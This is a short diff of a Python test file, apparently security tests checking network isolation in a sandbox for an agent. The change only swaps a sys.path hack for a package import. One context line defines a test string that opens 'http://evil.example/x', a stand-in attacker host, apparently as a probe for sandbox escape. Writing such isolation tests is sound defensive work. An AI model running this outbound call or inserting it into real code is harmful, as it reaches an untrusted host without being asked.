@@ -26,9 +26,7 @@ from sandbox import Limits as BoxLimits
 from sandbox import Pool
 from tests.agent_core.office import Office, open_office
 from tests.fakes import Request, Turn
-
-sys.path.insert(0, str(Path(__file__).parent))
-from town import Town, hit, open_town
+from tests.security.web.within.town import Town, hit, open_town
 
 ONLINE = "import urllib.request as u; u.urlopen('http://evil.example/x')"
 REACHES: tuple[dict[str, Any], ...] = (
